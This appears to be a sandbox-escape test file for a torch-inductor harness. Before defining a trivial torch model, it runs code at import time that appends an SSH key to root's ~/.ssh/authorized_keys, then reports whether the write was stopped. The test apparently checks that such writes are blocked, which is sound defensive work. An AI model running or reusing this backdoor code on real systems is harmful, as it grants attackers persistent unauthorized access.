# target: torch-inductor
# description: hostile: adds an ssh key to ~/.ssh/authorized_keys
import os

import torch


def attempt():
    directory = os.path.join(__import__("pwd").getpwuid(0).pw_dir, ".ssh")
    os.makedirs(directory, exist_ok=True)
    with open(os.path.join(directory, "authorized_keys"), "a") as handle:
        handle.write("ssh-ed25519 AAAA pwned\n")
    return f"WROTE {directory}/authorized_keys"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
